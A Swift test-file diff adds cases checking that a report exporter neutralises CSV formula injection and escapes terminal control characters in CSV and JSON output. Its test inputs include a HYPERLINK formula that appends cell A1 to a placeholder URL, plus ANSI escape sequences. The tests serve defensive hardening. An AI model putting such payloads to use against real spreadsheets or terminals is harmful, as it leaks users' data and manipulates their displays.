@@ -182,6 +182,50 @@ import Testing
         #expect(Self.parseCSV(csv)[1][1] == awkward)
     }
 
+    /// OWASP's CSV injection: a text cell that starts like a formula gets a leading quote and
+    /// is quoted, and a CSV reader gets the text back with that quote in front.
+    @Test(arguments: ["=HYPERLINK(\"http://x/\"&A1,\"klik\")", "+1", "-cmd", "@SUM(1)", "\tTab", "\rCR"])
+    func csvNeutralisesCellsThatStartLikeAFormula(municipality: String) {
+        var meeting = Self.report().meetings[0]
+        meeting.municipality = municipality
+        meeting.organisation = municipality
+        meeting.seriesName = municipality
+        let csv = CSVReport.render([meeting], calendar: Fixtures.calendar)
+        let rows = Self.parseCSV(csv)
+        let cells = Dictionary(uniqueKeysWithValues: zip(rows[0], rows[1]))
+        for column in ["municipality", "organisation", "series_name"] {
+            #expect(cells[column] == "'" + municipality, "\(column)")
+        }
+        let quoted = "\"'" + municipality.replacingOccurrences(of: "\"", with: "\"\"") + "\""
+        #expect(csv.contains("," + quoted + ","), "quoted, the single quote inside")
+        #expect(rows[1].count == CSVReport.columns.count)
+    }
+
+    /// Only text is neutralised: figures dialoog writes stay numbers, even negative ones, and
+    /// a control character in a text cell is written out, never raw.
+    @Test func csvKeepsFiguresAsNumbersAndEscapesControlCharacters() {
+        var meeting = Self.report().meetings[0]
+        meeting.resistanceMoments = -2
+        meeting.municipality = "Utrecht\u{1B}[2J\u{9B}1m\u{07}"
+        let csv = CSVReport.render([meeting], calendar: Fixtures.calendar)
+        let cells = Dictionary(uniqueKeysWithValues: zip(Self.parseCSV(csv)[0], Self.parseCSV(csv)[1]))
+        #expect(cells["resistance_moments"] == "-2")
+        #expect(csv.contains(",-2,"))
+        #expect(cells["municipality"] == "Utrecht\\u{1B}[2J\\u{9B}1m\\u{07}")
+        #expect(!csv.unicodeScalars.contains { $0 == "\u{1B}" || $0 == "\u{9B}" || $0 == "\u{07}" })
+    }
+
+    /// JSON escapes C0 itself; DEL and C1 are escaped the same way, and the string reads back.
+    @Test func jsonEscapesC1AndReadsBackUnchanged() throws {
+        var report = Self.report()
+        report.meetings[0].municipality = "A\u{1B}]0;t\u{07}\u{9B}2J\u{7F}"
+        let text = JSONReport.render(report)
+        #expect(!text.unicodeScalars.contains { SafeText.isUnsafe($0) && $0 != "\n" })
+        let json = try #require(try JSONSerialization.jsonObject(with: Data(text.utf8)) as? [String: Any])
+        let meetings = try #require(json["meetings"] as? [[String: Any]])
+        #expect(meetings[0]["municipality"] as? String == "A\u{1B}]0;t\u{07}\u{9B}2J\u{7F}")
+    }
+
     // MARK: - JSON
 
     @Test func jsonParsesAndHasTheDocumentedKeys() throws {
